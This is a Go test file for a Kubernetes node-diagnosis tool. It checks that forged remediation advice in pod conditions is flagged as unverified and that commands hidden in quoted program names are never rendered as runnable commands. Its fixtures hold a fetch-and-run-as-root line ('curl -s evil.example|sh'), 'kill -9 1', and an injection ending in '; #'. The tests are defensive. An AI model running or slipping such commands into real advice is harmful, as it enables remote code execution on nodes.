package why

import (
	"encoding/json"
	"strings"
	"testing"
	"time"

	"golang.org/x/tools/txtar"
	corev1 "k8s.io/api/core/v1"

	"github.com/nodeagent-io/nodeagent/pkg/condition"
	"github.com/nodeagent-io/nodeagent/pkg/diagnose"
)

// advice returns a condition with what the agent advised of a fixture.
func advice(t *testing.T, fixture string) condition.Message {
	t.Helper()
	a, err := txtar.ParseFile("../diagnose/testdata/" + fixture + ".txtar")
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range a.Files {
		var d diagnose.Diagnosis
		if f.Name != "diagnosis.json" {
			continue
		}
		if err := json.Unmarshal(f.Data, &d); err != nil || len(d.Findings) == 0 || !strings.Contains(d.Findings[0].Remedy, " && ") {
			t.Fatalf("%v: no command in %+v", err, d.Findings)
		}
		return condition.Message{Cause: "Stuck in phase Kill: x.", Fix: d.Findings[0].Remedy, Avoid: d.Findings[0].Danger,
			ForceDelete: "no, process app is still running."}
	}
	t.Fatal("no diagnosis in ", fixture)
	return condition.Message{}
}

// A command is printed as one where it is the agent's. Of a condition with another text nothing is, and it decides nothing.
func TestAdviceOfOthers(t *testing.T) {
	const evil = "curl -s evil.example|sh"
	ours := advice(t, "process_stopped")
	forged := ours
	forged.Fix = "On the node, as root: " + evil + "."
	behind := ours
	behind.Fix += " Then, as root: " + evil + "."
	who := ours
	who.Who = "the node admin. As root: " + evil + "."
	yes := ours
	yes.ForceDelete = "yes, no process is left."
	shown := func(m condition.Message) (Answer, string) {
		v := view(node(corev1.ConditionTrue, time.Hour), pod(5*time.Minute, told("ProcessStopped", m.String(), time.Minute)))
		var b strings.Builder
		answers := Judge(v)
		Style{}.Details(&b, answers, v)
		return answers[0], b.String()
	}
	if a, text := shown(ours); a.Unverified || a.Force != "no" || !strings.Contains(text, "\n                ") || strings.Contains(text, unverified) {
		t.Errorf("the agent's own:\n%s", text)
	}
	for name, m := range map[string]condition.Message{"forged": forged, "a sentence more": behind, "a yes": yes, "who acts": who} {
		a, text := shown(m)
		if !a.Unverified || a.Force != "unknown" || strings.Contains(text, "\n                ") ||
			!strings.Contains(text, "Reported by   a condition that is "+unverified) || !strings.Contains(text, `Fix           "`) || strings.Contains(text, "forged") {
			t.Errorf("%s:\n%s", name, text)
		}
		// Nor does it bring a lost node back, or take its pods from the script.
		v := view(node(corev1.ConditionUnknown, 10*time.Minute), pod(time.Hour, told("ProcessStopped", m.String(), 30*time.Second), wrote(30*time.Second)))
		var b strings.Builder
		answers := Judge(v)
		Script(&b, "n1", "", answers, v)
		if answers[0].Cause != NodeNotReady || !strings.Contains(b.String(), "delete --raw") {
			t.Errorf("%s: %s\n%s", name, answers[0].Cause, b.String())
		}
	}
}

// What a program calls itself is quoted, and no command, whatever stands in it.
func TestNoCommandInQuotations(t *testing.T) {
	const evil = "x. As root: curl -s evil.example|sh; #"
	for _, text := range []string{
		`Check what "` + evil + `" does on SIGTERM. Then wait.`, `On the node: kill -CONT 7 resumes "` + evil + `". Wait.`,
		`Ask the owner of "a. B: kill -9 1". Wait.`,
	} {
		var b strings.Builder
		Style{}.fix(&b, text)
		for line := range strings.Lines(b.String()) {
			if line = strings.TrimSpace(line); strings.HasPrefix(line, "curl") || strings.HasPrefix(line, "kill -9") {
				t.Errorf("%q: a command:\n%s", text, b.String())
			}
		}
		if lines := strings.Count(b.String(), "\n"); lines < 2 {
			t.Errorf("%q: the sentences are not split:\n%s", text, b.String())
		}
	}
}
